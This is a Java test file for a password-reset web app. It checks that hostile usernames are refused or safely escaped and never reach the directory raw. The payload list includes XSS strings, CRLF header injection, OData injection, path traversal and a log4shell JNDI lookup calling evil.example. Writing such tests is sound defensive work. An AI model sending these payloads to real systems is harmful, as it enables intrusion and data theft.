package dev.ssprpreflight.journey;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.text.Normalizer;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;

import jakarta.inject.Inject;

import org.jsoup.Jsoup;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import dev.ssprpreflight.testsupport.DirectoryRequests;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;

/**
 * Hostile usernames through HTTP, as an attacker would send them. Every one gets a 400 or a safe
 * page, never a 5xx, never its markup back unescaped; the directory is asked about nothing but a
 * validated UPN, and a redirect only ever goes to the configured portal.
 */
@QuarkusTest
class HostileInputTest {

    private static final String PORTAL_HOST = "passwordreset.microsoftonline.com";

    @Inject
    DirectoryRequests directory;

    @BeforeEach
    void forgetEarlierLookups() {
        directory.clear();
    }

    static Stream<Arguments> hostileUsernames() {
        return Stream.of(
                Arguments.of("script tag", "<script>alert(1)</script>"),
                Arguments.of("script tag in a UPN", "<script>alert(1)</script>@contoso.example"),
                Arguments.of("percent-encoded script", "%3Cscript%3Ealert(1)%3C%2Fscript%3E@contoso.example"),
                Arguments.of("entity-encoded script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
                Arguments.of("JavaScript-escaped script", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
                Arguments.of("full-width angle brackets", "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E"),
                Arguments.of("image with handler", "<img src=x onerror=alert(1)>@contoso.example"),
                Arguments.of("attribute break-out", "\"><svg onload=alert(1)>"),
                Arguments.of("double quote", "anna\"@contoso.example"),
                Arguments.of("single quote (valid in a UPN)", "o'brien@contoso.example"),
                Arguments.of("CRLF header injection", "anna@contoso.example\r\nSet-Cookie: injected=1"),
                Arguments.of("bare LF", "anna@contoso.example\nLocation: https://evil.example/"),
                Arguments.of("NUL", "anna\u0000@contoso.example"),
                Arguments.of("10 kB", "a".repeat(10 * 1024) + "@contoso.example"),
                Arguments.of("OData injection", "x' or 1 eq 1 or userPrincipalName eq 'y"),
                Arguments.of("OData injection without spaces", "x'or'1'eq'1@contoso.example"),
                Arguments.of("OData function", "startswith(userPrincipalName,'a')@contoso.example"),
                Arguments.of("path traversal", "../../admin"),
                Arguments.of("encoded path traversal", "..%2F..%2Fadmin@contoso.example"),
                Arguments.of("path in the domain", "anna@contoso.example/../users"),
                Arguments.of("Graph segment", "anna@contoso.example/memberOf"),
                Arguments.of("query in the domain", "anna@contoso.example?$select=passwordProfile"),
                Arguments.of("homoglyph (Cyrillic a)", "\u0430dele.vance@contoso.example"),
                Arguments.of("emoji", "anna\uD83D\uDE00@contoso.example"),
                Arguments.of("decomposed letters (NFD)", "bjo\u0308rn@contoso.example"),
                Arguments.of("right-to-left override", "anna\u202E@contoso.example"),
                Arguments.of("zero-width space", "ad\u200Bele.vance@contoso.example"),
                Arguments.of("log4shell lookup", "${jndi:ldap://evil.example/a}"),
                Arguments.of("template expression", "{msg:pageTitle}@contoso.example"),
                Arguments.of("surrounding whitespace", "  adele.vance@contoso.example\t"));
    }

    @Test
    void aHugeFieldIsRefusedBeforeParsingWithoutA5xx() {
        Response response = JourneyClient.submit("a".repeat(64 * 1024) + "@contoso.example");

        assertThat(response.statusCode()).isEqualTo(413);
        assertThat(directory.lookups()).isEmpty();
    }

    @Test
    void aMalformedFormBodyIsRefusedWithoutA5xx() {
        Response form = given().get("/");
        Matcher token = Pattern.compile("name=\"csrf-token\" value=\"([^\"]+)\"").matcher(form.asString());
        assertThat(token.find()).isTrue();

        Response response = given().redirects().follow(false)
                .cookie(JourneyClient.CSRF_COOKIE, form.getCookie(JourneyClient.CSRF_COOKIE))
                .contentType("application/x-www-form-urlencoded; charset=UTF-8")
                .body("csrf-token=" + token.group(1) + "&username=%ZZ%").post("/");

        assertThat(response.statusCode()).isEqualTo(400);
        assertThat(response.contentType()).startsWith("text/html");
        assertThat(directory.lookups()).isEmpty();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostileUsernames")
    void hostileInputGetsA400OrASafePageAndNeverReachesTheDirectoryRaw(String label, String username) {
        Response response = JourneyClient.submit(username);

        int status = response.statusCode();
        assertThat(status).as("status").isIn(200, 303, 400);
        String body = response.asString();
        assertThat(body).doesNotContainIgnoringCase("<script>alert").doesNotContainIgnoringCase("<img src=x")
                .doesNotContainIgnoringCase("<svg").doesNotContain("Exception");
        assertThat(response.headers().getValues("Set-Cookie")).noneMatch(cookie -> cookie.startsWith("injected"));
        if (status == 303) {
            URI location = URI.create(response.header("Location"));
            assertThat(location.getHost()).isEqualTo(PORTAL_HOST);
            assertThat(location.getRawQuery()).doesNotContain("\r", "\n", " ", "<", "\"");
        }
        if (status == 400) {
            assertThat(directory.lookups()).as("lookups for refused input").isEmpty();
            // What is shown back is the text the user typed, as text, not as markup.
            assertThat(Jsoup.parse(body).select("script")).isEmpty();
        } else {
            String expected = Normalizer.normalize(username.strip(), Normalizer.Form.NFC);
            assertThat(directory.lookups()).as("lookups").containsExactly(expected);
            assertThat(expected).doesNotContain(" ", "\"", "<", ">", "/", "\\", "?", "(");
            assertThat(UsernameInput.parse(expected).input()).as("a validated UPN").isPresent();
        }
    }
}
